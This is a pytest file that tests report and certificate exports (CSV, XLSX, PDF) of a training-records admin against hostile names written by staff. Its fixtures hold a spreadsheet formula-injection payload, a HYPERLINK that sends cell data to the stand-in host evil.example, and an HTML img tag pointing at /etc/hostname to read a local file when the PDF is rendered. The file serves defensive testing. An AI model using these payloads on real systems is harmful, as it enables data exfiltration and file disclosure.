"""Every export of reports and certificates with hostile staff-written names: no formula
cell in a spreadsheet, no markup read in a PDF."""

import csv
import datetime
import io

import openpyxl
import pytest

HOSTILE_GROUP = '=HYPERLINK("http://evil.example/?"&A1,"Відкрити")'
HOSTILE_COURSE = 'Курс <img src="/etc/hostname" width="50" height="50"/>'


@pytest.fixture
def hostile(story, group, coordinator):
    group.name = HOSTILE_GROUP
    group.save()
    story.page.title = HOSTILE_COURSE
    story.page.save_revision().publish()
    for n in range(6):
        story.finished(story.trainee(group), datetime.date(2026, 10, 5), 40, 70, f"AAAA-AAAA-AAB{n}")
    return coordinator


EXPORTS = [
    "/admin/reports/training-report.csv",
    "/admin/reports/training-report.xlsx",
    "/admin/reports/training-report.pdf",
    "/admin/reports/trainees.csv",
    "/admin/reports/trainees.xlsx",
    "/admin/certificates/export.csv",
    "/admin/certificates/export.xlsx",
]


@pytest.mark.parametrize("url", EXPORTS)
def test_no_export_runs_what_staff_typed(client, hostile, url):
    client.force_login(hostile)

    response = client.get(url)

    assert response.status_code == 200
    body = b"".join(response.streaming_content) if response.streaming else response.content
    if url.endswith(".csv"):
        rows = csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";")
        cells = [cell for row in rows for cell in row]
        assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]
    elif url.endswith(".xlsx"):
        sheet = openpyxl.load_workbook(io.BytesIO(body)).active
        cells = [cell for row in sheet.iter_rows() for cell in row]
        assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
        assert HOSTILE_GROUP in [cell.value for cell in cells] or "training-report" in url
    else:
        assert body.startswith(b"%PDF")
